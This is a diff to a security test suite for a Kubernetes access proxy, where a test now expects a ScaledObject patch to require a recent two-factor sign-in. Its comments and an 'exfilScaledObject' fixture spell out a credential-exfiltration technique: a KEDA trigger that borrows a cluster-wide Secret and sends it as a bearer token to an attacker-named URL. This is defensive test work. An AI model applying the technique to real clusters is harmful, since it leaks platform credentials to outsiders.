@@ -92,13 +92,15 @@ describe("an e-commerce company's Black Friday on a tailnet, with examples/stepg
     expect(reasonOf(res), rules(res)).not.toBe('allowed');
   });
 
-  // Open: malware on the SRE's laptop patches a ScaledObject in a production namespace where the
-  // SRE tunes ScaledObjects every day, adding a metrics-api trigger whose authenticationRef is the
-  // platform's ClusterTriggerAuthentication for the PSP's reporting API and whose url is the
-  // attacker's: KEDA's operator reads that Secret with its own rights and sends it as a bearer
-  // token every polling interval. The request is a ScaledObject patch like the SRE's own
-  // (prod-writes, 8 hours); the routine Prometheus trigger beside it carries no credential.
-  it.fails("a ScaledObject sending a ClusterTriggerAuthentication's credential to a URL it names is not allowed", async () => {
+  // Was allowed (day 22, every seed with the warm-up day): malware on the SRE's laptop patches a
+  // ScaledObject in a production namespace where the SRE tunes ScaledObjects every day, adding a
+  // metrics-api trigger whose authenticationRef is the platform's ClusterTriggerAuthentication for
+  // the PSP's reporting API and whose url is the attacker's: KEDA's operator reads that Secret
+  // with its own rights and sends it as a bearer token every polling interval. The request was a
+  // ScaledObject patch like the SRE's own (prod-writes, 8 hours). Now the trigger's cluster-wide
+  // authentication is keda_cluster_trigger_auth (two factors within 15 minutes); the routine
+  // Prometheus trigger, which carries no credential, asks nothing.
+  it("a ScaledObject sending a ClusterTriggerAuthentication's credential to a URL it names asks a recent sign-in; the routine one does not", async () => {
     const path = '/apis/keda.sh/v1alpha1/namespaces/prod-catalog/scaledobjects/catalog-api?fieldManager=kubectl-client-side-apply&fieldValidation=Strict';
     const login = await twoDays('d22f-sre@basketry.example', [
       ['GET', '/apis/keda.sh/v1alpha1/namespaces/prod-catalog/scaledobjects/catalog-api'],
@@ -107,7 +109,8 @@ describe("an e-commerce company's Black Friday on a tailnet, with examples/stepg
     const routine = await send(login, FRI + 4 * H, 'PATCH', path, { body: JSON.stringify(scaledObject('prod-catalog', 'catalog-api', 10, 120)), contentType: MERGE });
     expect(reasonOf(routine), rules(routine)).toBe('allowed');
     const res = await send(login, FRI + 4 * H + M, 'PATCH', path, { body: JSON.stringify(exfilScaledObject('prod-catalog', 'catalog-api', 'https://metrics.basketry-cdn.example/v1/queue')), contentType: MERGE });
-    expect(reasonOf(res), rules(res)).not.toBe('allowed');
+    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
+    expect(rules(res)).toContain('keda_cluster_trigger_auth');
   });
 
   // Open: the incident commander signed in on the war room's wall-screen PC that morning to show
